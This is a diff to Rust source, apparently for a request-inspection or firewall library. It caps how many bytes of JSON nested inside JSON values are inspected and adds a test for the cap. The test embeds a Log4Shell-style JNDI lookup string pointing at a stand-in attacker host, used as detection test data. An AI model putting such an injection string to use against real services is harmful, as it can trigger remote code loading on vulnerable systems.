@@ -801,6 +801,14 @@ struct Builder<'c, 'x, 'r> {
     /// Leaves of such documents taken so far in this request (bounded by
     /// `limits.body_values`).
     nested_values: usize,
+    /// Bytes of such leaves the request may still have inspected: the lengths of the
+    /// outermost documents carried as values (nesting 0), added as each is walked.
+    /// One level of nesting never reaches it (a document's string leaves, unescaped, are no
+    /// longer than the document); a document inside a document inside ... would inspect the
+    /// same bytes once per level, and is cut off (reported) where that would exceed it.
+    nested_allowance: usize,
+    /// Bytes of such leaves taken so far (bounded by `nested_allowance`).
+    nested_bytes: usize,
 }
 
 /// What [`Builder::undo`] returns to: the builder's state before a body was walked.
@@ -990,9 +998,14 @@ impl<'r> Builder<'_, '_, 'r> {
     /// Bounded like the body: depth `limits.json_depth` (deeper values not visited: reported),
     /// leaves of such documents at most `limits.body_values` per request (reported past it),
     /// and a document inside a document inside ... counts as one more decoding round each
-    /// (past `limits.decode_rounds` levels: reported, not walked). Each level walks text
-    /// no longer than the value that held it, once: linear. A value that is not well-formed
-    /// JSON adds nothing (what the walk saw is dropped).
+    /// (past `limits.decode_rounds` levels: reported, not walked). The string leaves of all
+    /// such documents together are at most as long as the outermost values carrying them
+    /// (`nested_allowance`): each level would otherwise inspect every byte of the body
+    /// again (five levels, five times the body); past it the walk stops and
+    /// `DecodeRounds` is reported (a document in a document is one more decoding round, and
+    /// the allowance is what those rounds may decode). One level never reaches it, so what
+    /// the application reads of an ordinary `data={...}` is inspected in full. A value that
+    /// is not well-formed JSON adds nothing (what the walk saw is dropped).
     ///
     /// Returns whether `doc` was walked (well-formed, within the rounds).
     fn nested_document(
@@ -1007,6 +1020,10 @@ impl<'r> Builder<'_, '_, 'r> {
             return true;
         }
         let mark = self.mark();
+        let (allowance, taken) = (self.nested_allowance, self.nested_bytes);
+        if self.nesting == 0 {
+            self.nested_allowance = allowance.saturating_add(doc.len());
+        }
         let max_values = self.cfg.limits.body_values.max as usize;
         let depth = self.cfg.limits.json_depth.max;
         let borrowed: Option<&'r str> = match &doc.0 {
@@ -1023,6 +1040,12 @@ impl<'r> Builder<'_, '_, 'r> {
                 self.hit(LimitKind::BodyValues);
                 return false;
             }
+            let taken = self.nested_bytes.saturating_add(text.len());
+            if taken > self.nested_allowance {
+                self.hit(LimitKind::DecodeRounds);
+                return false;
+            }
+            self.nested_bytes = taken;
             // A leaf without escapes is a slice of the document: borrowed when it is.
             let raw = match borrowed
                 .and_then(|d| within(d.as_bytes(), text.as_bytes()).map(|r| (d, r)))
@@ -1042,6 +1065,7 @@ impl<'r> Builder<'_, '_, 'r> {
             Ok(false) => {}
             Err(_) => {
                 self.undo(mark);
+                (self.nested_allowance, self.nested_bytes) = (allowance, taken);
                 return false;
             }
         }
@@ -1319,6 +1343,8 @@ pub(crate) fn prepare_with<'r>(
         lower_body: None,
         nesting: 0,
         nested_values: 0,
+        nested_allowance: 0,
+        nested_bytes: 0,
     };
     b.flags.invalid_percent |= has_bad_percent(path_raw.as_bytes());
     let path = b.text(Raw::RequestStr(path_raw), false);
@@ -1775,6 +1801,41 @@ mod tests {
             .inputs
             .iter()
             .any(|i| i.location.source == Source::ArgName && i.value == "b"));
+    }
+
+    /// The leaves of documents carried as values are inspected up to the length of the
+    /// outermost value carrying them: a JSON body member holding a document holding a
+    /// document gives its innermost leaf when the two levels' leaves together fit (exactly
+    /// at the allowance), and past it (one byte more) stops and reports `DecodeRounds`.
+    #[test]
+    fn nested_leaves_are_inspected_up_to_the_carrier_length() {
+        let quoted = |s: &str| serde_json::to_string(s).unwrap_or_default();
+        let payload = "${jndi:ldap://evil.example/a}";
+        let inner = format!("{{\"b\":{}}}", quoted(payload));
+        // The outermost carrier: its key is padding that counts towards the allowance and
+        // is no leaf.
+        let carrier = |key: usize| format!("{{\"{}\":{}}}", "k".repeat(key), quoted(&inner));
+        let spent = inner.len() + payload.len();
+        let key = spent - carrier(0).len();
+        let h = hdrs(&[("content-type", "application/json")]);
+        let cfg = Config::default();
+        for (key, fits) in [(key, true), (key - 1, false)] {
+            let doc = carrier(key);
+            assert_eq!(doc.len() >= spent, fits);
+            let body = format!("{{\"m\":{}}}", quoted(&doc));
+            let req = Request::new("POST", "/")
+                .with_headers(&h)
+                .with_body(body.as_bytes());
+            let p = prepare(req, &cfg, &NoExcl, CategorySet::EMPTY);
+            let leaf = p.inputs.iter().any(|i| i.value == payload);
+            assert_eq!(leaf, fits, "key {key}");
+            let limits: &[LimitKind] = if fits {
+                &[]
+            } else {
+                &[LimitKind::DecodeRounds]
+            };
+            assert_eq!(p.limit_hits, limits, "key {key}");
+        }
     }
 
     /// A JSON document carried as a value gives its string leaves as values of their own
